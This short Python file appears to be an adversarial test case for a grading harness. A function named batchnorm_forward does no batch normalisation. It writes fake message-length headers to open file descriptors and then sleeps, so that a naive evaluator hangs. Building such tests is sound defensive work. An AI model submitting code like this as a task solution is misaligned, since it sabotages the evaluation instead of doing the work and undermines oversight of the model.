# attack: announces messages whose length is just plausible (256 MiB to 2 GiB), in every byte order, and sends nothing
# honest: 0
# naive: hang

import os
import struct
import time


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    for fd in range(3, 256):
        for form in (">I", "<I", ">Q", "<Q"):
            for length in (1 << 28, (1 << 31) - 1):
                try:
                    os.write(fd, struct.pack(form, length) * 2)
                except OSError:
                    break
    time.sleep(30)
